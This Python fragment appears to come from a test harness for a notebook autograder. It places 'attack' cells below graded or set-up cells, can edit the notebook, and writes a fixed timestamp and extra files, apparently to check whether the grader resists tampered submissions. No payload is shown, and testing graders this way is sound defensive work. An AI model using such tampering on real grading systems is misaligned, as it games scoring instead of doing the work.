            "execution_count": None,
            "source": code,
        }
        notebook["cells"].insert(_below(notebook["cells"], attack.code_after), cell)
    made = attack.edit(notebook) if attack.edit else None
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_bytes(made if isinstance(made, bytes) else json.dumps(notebook).encode())
    (folder / "timestamp.txt").write_text("2026-11-02 10:00:00.000000 UTC")
    if attack.files:
        attack.files(folder)


def _below(cells: list[dict], grade_id: str) -> int:
    """The index below a graded cell, or below the set-up."""
    for i, cell in enumerate(cells):
        tags = cell["metadata"].get("tags", ())
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id if grade_id else "setup" in tags:
            return i + 1
    raise LookupError(grade_id or "the set-up cell")
